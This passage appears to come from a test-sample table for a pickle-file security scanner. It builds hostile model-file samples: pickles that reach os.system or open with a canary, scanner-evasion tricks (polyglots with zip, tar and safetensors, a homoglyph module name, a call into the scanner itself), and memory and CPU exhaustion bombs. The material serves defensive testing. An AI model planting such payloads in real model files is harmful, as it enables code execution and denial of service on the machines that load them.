        "numpy.lib.format.read_array: allow_pickle=True lifts max_header_size"),
    "lzma_alone_small_dictionary": Sample(
        _lzma_small_dictionary,
        "joblib _detect_compressor (']\\x00') + lzma.LZMAFile FORMAT_AUTO: 12 KiB dictionary"),
    "bzip2_magic_pickle": Sample(
        _bzip2_magic_pickle, "pickle.loads of a file starting 'BZh' (BINBYTES), sniffed as bzip2"),
    "joblib_object_array": Sample(_joblib_object_array, "joblib inline object-array pickle"),
    "joblib_payload_after_array": Sample(_joblib_after_array, "payload after inline array"),
    "joblib_array_bytes_as_opcodes": Sample(
        _joblib_array_as_opcodes,
        "joblib inline array whose bytes are opcodes for pickle.load (fuzz-found variant)"),
    "zip_polyglot": Sample(_zip_polyglot, "pickle + zip polyglot (pickle.load vs torch.load)"),
    "zip_after_broken_pickle": Sample(
        lambda c: b"\x80\x04\xff" + _torch_zip(canary_reduce_pickle(c, 2), "archive/data.pkl"),
        "zip appended to a broken pickle: zipfile finds it by its end record (fuzz-found)"),
    "put_index_nul_differential": Sample(
        lambda c: b"(lp0\x00x\n" + glob("os", "system") + f"(Vtouch {c}\ntR.".encode(),
        "PUT index '0\\x00x': CPython parses the line as a C string (stops at NUL), Python's "
        "int() refuses it (fuzz-found)"),
    "zip_after_junk": Sample(
        lambda c: b"\x00\x04x\x06" + _torch_zip(canary_reduce_pickle(c, 2), "archive/data.pkl"),
        "zip after bytes that are neither a pickle nor a known format: zipfile reads it "
        "(fuzz-found)"),
    "tar_polyglot": Sample(
        _tar_polyglot, "pickle in a tar member name: sniffed as tar, pickle.loads runs it"),
    "safetensors_polyglot": Sample(
        _safetensors_polyglot,
        "pickle whose first bytes read as a safetensors header length: sniffed as safetensors"),
    "persistent_id_plain_pickle": Sample(
        lambda c: b"\x80\x02" + fragment(str(c)) + b"Q.", "BINPERSID in a plain pickle",
        expect="fail"),
    "scanner_deactivation": Sample(
        lambda c: _p4(_call(stack_global("safeart.scan.api", "scan_bytes"), b"")),
        "pickle reaching the scanner's own internals"),
    "homoglyph_module_name": Sample(
        lambda c: _p4(_call(stack_global("b\u0578iltins", "open"), str(c), "w")),
        "non-ASCII look-alike module name"),
    "proto2_compat_builtin": Sample(
        lambda c: b"\x80\x02" + _call(glob("__builtin__", "open"), str(c), "w") + b".",
        "_compat_pickle: __builtin__ -> builtins under protocol < 3"),
    "memo_index_bomb": Sample(
        lambda c: b"\x80\x02N" + b"r\xf0\xff\xff\xff" + canary_reduce_pickle(c, 2)[2:],
        "LONG_BINPUT huge index (memory exhaustion) then payload"),
    "deep_gzip_nesting": Sample(_gz_nest(10), "10 nested gzip layers", expect="fail"),
    # Allowlisted callables asked for more memory than exists (no code runs; the allocation
    # is the attack). If one were ever loaded unbounded it would raise MemoryError or exhaust
    # RAM: tests load them only under a memory cap (tests/hardening/test_call_bounds.py).
    "bytes_huge_count_p2": Sample(
        lambda c: b"\x80\x02" + _call(glob("__builtin__", "bytes"), 2**36) + b".",
        f"bytes(2**36): 64 GiB from 20 bytes; {_ISSUE_12}", expect="fail"),
    "bytearray_huge_count": Sample(
        lambda c: _p4(_call(stack_global("builtins", "bytearray"), 2**36)),
        f"bytearray(2**36); {_ISSUE_12}", expect="fail"),
    "frozenset_of_huge_range": Sample(
        lambda c: _called_with("builtins", "frozenset", _huge_range()),
        f"frozenset(range(2**31)): ~128 GiB of ints; {_ISSUE_12}", expect="fail"),
    "set_of_huge_range_p2": Sample(
        lambda c: b"\x80\x02" + glob("builtins", "set") + glob("builtins", "range")
        + fragment((2**31,)) + b"R\x85R.",
        f"set(range(2**31)), protocol 2; {_ISSUE_12}", expect="fail"),
    "torch_size_of_huge_range": Sample(
        lambda c: _called_with("torch", "Size", _huge_range()),
        f"torch.Size(range(2**31)); {_ISSUE_12}", expect="fail"),
    "numpy_reconstruct_huge_shape": Sample(
        _huge_reconstruct, f"numpy _reconstruct(ndarray, (2**40,), 'b'): 1 TiB; {_ISSUE_12}",
        expect="fail"),
    # Allowed number types asked for numbers of millions of digits: CPU for seconds to
    # forever, from a few bytes (tests load them only under a CPU cap).
    "fraction_huge_exponent": Sample(
        lambda c: _p4(_call(stack_global("fractions", "Fraction"), "1e10000000")),
        f"Fraction('1e10000000') builds 10**10000000; {_DIGITS}", expect="fail"),
    "fraction_unicode_exponent": Sample(
        lambda c: _p4(_call(stack_global("fractions", "Fraction"), "1e\u0669" + "9" * 4000)),
        f"Fraction('1e<Arabic-Indic 9><4000 nines>'): int() reads any Unicode digit; {_DIGITS}",
        expect="fail"),
    "fraction_of_huge_decimal": Sample(
        lambda c: _p4(stack_global("fractions", "Fraction") + b"("
                      + _call(stack_global("decimal", "Decimal"), "1e10000000") + b"tR"),
        f"Fraction(Decimal('1e10000000')): as_integer_ratio builds 10**10000000; {_DIGITS}",
        expect="fail"),
    "decimal_of_huge_int": Sample(
        lambda c: _p4(_call(stack_global("decimal", "Decimal"), 1 << 3_000_000)),
        f"Decimal(2**3000000): quadratic int-to-decimal conversion (~17 s); {_DIGITS}",
        expect="fail"),
    "fraction_of_huge_ints": Sample(
        lambda c: _p4(_call(stack_global("fractions", "Fraction"), *_random_ints(3_000_000))),
        f"Fraction(a, b) of two random 3-million-bit ints: a quadratic gcd (~15 s); {_DIGITS}",
        expect="fail"),
    "torch_nn_linear_called": Sample(
        lambda c: _p4(_call(stack_global("torch.nn.modules.linear", "Linear"), 2**17, 2**17)),
        f"REDUCE of the allowed class nn.Linear(2**17, 2**17): __init__ allocates 64 GiB; "
        f"{_ISSUE_12}", expect="fail"),
}
